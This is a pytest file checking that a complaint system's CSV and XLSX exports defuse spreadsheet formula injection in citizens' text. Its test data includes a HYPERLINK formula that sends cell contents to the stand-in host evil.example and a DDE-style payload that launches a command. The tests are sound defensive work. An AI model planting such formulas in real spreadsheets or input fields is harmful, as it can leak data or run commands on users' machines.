"""CSV and XLSX exports (central/exports.py) against formula injection: a citizen's text
that starts like a formula must reach the spreadsheet as text, on SQLite and PostgreSQL."""
from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from pathlib import Path

import pytest

from central import Store
from central.exports import export

IN_AZAR = "2026-12-01T08:00:00.000000Z"  # 1405-09-10 in Tehran
#: citizen text that a spreadsheet would run, and what the CSV cell must say instead.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"جزئیات")': '\'=HYPERLINK("http://evil.example/?"&A1,"جزئیات")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


def add_cases(store: Store, texts: list[str]) -> None:
    with store.connect() as db, db.transaction():
        db.executemany("INSERT INTO records (uuid, office, kind, created_at, body, fingerprint,"
                       " tracking_code, receipt, received_at) VALUES (?, ?, ?, ?, ?, 'fp', NULL, 'r', 'now')",
                       [(str(uuid.uuid4()), "THR-012", "case", IN_AZAR, json.dumps(
                           {"tracking_code": f"{i:08d}", "type": "complaint", "service": "other",
                            "text": text, "anonymous": True, "channel": "kiosk", "route": "office",
                            "attachments": []}, ensure_ascii=False))
                        for i, text in enumerate(texts)])


def test_csv_export_quotes_text_that_would_start_a_formula(store: Store, tmp_path: Path) -> None:
    add_cases(store, list(FORMULAS))
    out = tmp_path / "cases.csv"
    export(store, "cases", "1405-09", out)
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert sorted(r["text"] for r in rows) == sorted(FORMULAS.values())


def test_csv_export_leaves_ordinary_text_and_numbers_alone(store: Store, tmp_path: Path) -> None:
    add_cases(store, ["صف طولانی = معطلی", "'از قبل نقل‌قول"])
    out = tmp_path / "cases.csv"
    export(store, "cases", "1405-09", out)
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert sorted(r["text"] for r in rows) == sorted(["صف طولانی = معطلی", "'از قبل نقل‌قول"])
    assert {r["attachments"] for r in rows} == {"0"}


def test_xlsx_export_stores_formula_looking_text_as_text(store: Store, tmp_path: Path) -> None:
    import openpyxl
    add_cases(store, list(FORMULAS))
    out = tmp_path / "cases.xlsx"
    export(store, "cases", "1405-09", out, fmt="xlsx")
    sheet_xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(out).active
    column = [c.value for c in sheet[1]].index("text")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)
    # the text itself, unquoted (an XML reader reads a carriage return as a line feed)
    assert sorted(c.value for c in cells) == sorted(t.replace("\r", "\n") for t in FORMULAS)
